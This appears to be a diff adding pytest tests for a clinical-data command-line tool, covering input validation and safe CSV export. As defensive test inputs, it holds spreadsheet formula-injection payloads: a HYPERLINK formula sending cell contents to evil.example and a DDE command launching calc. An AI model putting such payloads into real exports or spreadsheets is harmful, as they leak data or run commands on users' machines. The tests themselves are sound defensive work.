@@ -132,3 +132,160 @@ def test_outcomes_report_from_a_patient_table(
     html = (out / "outcomes-report.html").read_text()
     assert "SYNTHETIC cohort" in html and "<img" in html
     assert main(["clinical", "outcomes", str(path), "--attribute", "nope", "--out", str(out)]) == 2
+
+
+@pytest.mark.parametrize(
+    ("row", "field", "message"),
+    [
+        ("P1,99999999999999999999,false,false,38.4,no,,none,,no\n", "day", "possible study day"),
+        ("P1,40000,false,false,38.4,no,,none,,no\n", "day", "possible study day"),
+        ("P1,1,false,false,nan,no,,none,,no\n", "temperature_c", "not a finite number"),
+        ("P1,1,false,false,1e400,no,,none,,no\n", "temperature_c", "not a finite number"),
+        ("P1,1,false,false,-500,no,,none,,no\n", "temperature_c", "not a possible body"),
+        ("P1,1,false,false,38.4,no,,nasal_cannula,inf,no\n", "oxygen_flow_l_min", "L/min"),
+    ],
+)
+def test_impossible_observations_exit_2_without_a_traceback(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], row: str, field: str, message: str
+) -> None:
+    path = tmp_path / "bad.csv"
+    path.write_text(HEADER + "P1,0,false,false,37.0,no,,none,,no\n" + row)
+    assert main(["clinical", "grade", str(path), "--kind", "crs"]) == 2
+    err = " ".join(capsys.readouterr().err.split())
+    assert f"field {field!r}" in err and "line 3" in err and message in err
+    assert "Traceback" not in err
+
+
+def test_grade_refuses_a_patient_day_given_twice(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "twice.csv"
+    path.write_text(
+        HEADER
+        + "P1,1,false,false,38.4,no,,none,,no\n"
+        + "P2,1,false,false,37.0,no,,none,,no\n"
+        + "P1,1,false,false,39.4,yes,,none,,no\n"
+    )
+    out = tmp_path / "graded.csv"
+    assert main(["clinical", "grade", str(path), "--kind", "crs", "--out", str(out)]) == 2
+    err = " ".join(capsys.readouterr().err.split())
+    assert "field 'day'" in err and "line 4: patient_id P1, day 1 repeats line 2" in err
+    assert not out.exists()
+
+
+def test_kinetics_refuses_mixed_units_for_one_patient(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "pk.csv"
+    path.write_text(
+        "patient_id,day,value,unit\n"
+        "P1,0,0,copies/ug\nP1,7,1000,copies/ug\nP2,7,80,cells/uL\nP1,14,30,cells/uL\n"
+    )
+    assert main(["clinical", "kinetics", str(path)]) == 2
+    err = " ".join(capsys.readouterr().err.split())
+    assert "field 'unit'" in err
+    assert "line 5: patient P1 has values in 'cells/uL' here and in 'copies/ug' on line 2" in err
+
+
+def test_kinetics_takes_each_patients_unit_from_the_file(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "pk.csv"
+    path.write_text(
+        "patient_id,day,value,unit\nP1,0,0,copies/ug\nP1,7,1000,copies/ug\n"
+        "P2,0,0,cells/uL\nP2,7,80,cells/uL\n"
+    )
+    assert main(["clinical", "kinetics", str(path), "--json"]) == 0
+    units = {r["patient_id"]: r["unit"] for r in json.loads(capsys.readouterr().out)}
+    assert units == {"P1": "copies/ug", "P2": "cells/uL"}
+
+
+@pytest.mark.parametrize(
+    ("rows", "field", "message"),
+    [
+        ("P1,0,0\nP1,7,inf\n", "value", "line 3: inf is not a finite number"),
+        ("P1,0,0\nP1,7,1e400\n", "value", "line 3: inf is not a finite number"),
+        ("P1,0,0\nP1,7,-5\n", "value", "line 3: -5 is not a possible amount"),
+        ("P1,0,0\nP1,1e9,5\n", "day", "line 3: 1e+09 days is not a possible study day"),
+    ],
+)
+def test_kinetics_refuses_impossible_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], rows: str, field: str, message: str
+) -> None:
+    path = tmp_path / "pk.csv"
+    path.write_text("patient_id,day,value\n" + rows)
+    assert main(["clinical", "kinetics", str(path)]) == 2
+    err = " ".join(capsys.readouterr().err.split())
+    assert f"field {field!r}" in err and message in err
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def _spreadsheet_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def _no_formula(cells: list[list[str]]) -> None:
+    for row in cells:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start with a sign
+
+
+def test_grade_out_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "crs.csv"
+    quoted = '"' + HOSTILE.replace('"', '""') + '"'
+    path.write_text(
+        HEADER.rstrip("\n") + ",comment\n"
+        f"{quoted},1,false,false,38.4,no,,none,,no,@SUM(1+1)\n"
+        "P2,1,false,false,37.0,no,,none,,no,+cmd|' /C calc'!A0\n"
+    )
+    out = tmp_path / "graded.csv"
+    assert main(["clinical", "grade", str(path), "--kind", "crs", "--out", str(out)]) == 0
+    cells = _spreadsheet_cells(out)
+    _no_formula(cells)
+    flat = [c for row in cells for c in row]
+    assert "'" + HOSTILE in flat and "'@SUM(1+1)" in flat and "'+cmd|' /C calc'!A0" in flat
+
+
+def test_outcomes_table_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
+    lines = ["patient_id,car_expression,pfs_time,pfs_event,responder"]
+    for i in range(30):
+        name = f"-{i}+cmd" if i % 2 else f"P{i}"
+        lines.append(f"{name},{20 + i},{100 + 10 * i},{i % 3 == 0:d},{int(i > 14)}")
+    path = tmp_path / "patients.csv"
+    path.write_text("\n".join(lines) + "\n")
+    table = tmp_path / "table.csv"
+    code = main(
+        ["clinical", "outcomes", str(path), "--attribute", "car_expression",
+         "--out", str(tmp_path / "report"), "--permutations", "19", "--table", str(table)]
+    )  # fmt: skip
+    assert code == 0
+    cells = _spreadsheet_cells(table)
+    _no_formula(cells)
+    assert cells[2][0] == "'-1+cmd" and cells[1][0] == "P0"
+
+
+@pytest.mark.parametrize(
+    ("where", "code", "message"),
+    [
+        ("under-a-file/graded.csv", 2, "Not a directory"),
+        ("no/such/folder/graded.csv", 2, "No such file or directory"),
+        ("x" * 300 + ".csv", 4, "File name too long"),
+    ],
+)
+def test_an_output_that_cannot_be_written_is_a_message_not_a_traceback(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str, code: int, message: str
+) -> None:
+    (tmp_path / "under-a-file").write_text("a file\n")
+    out = tmp_path / where
+    assert (
+        main(["clinical", "grade", str(_crs_csv(tmp_path)), "--kind", "crs", "--out", str(out)])
+        == code
+    )
+    err = " ".join(capsys.readouterr().err.split())
+    assert message in err and "Traceback" not in err
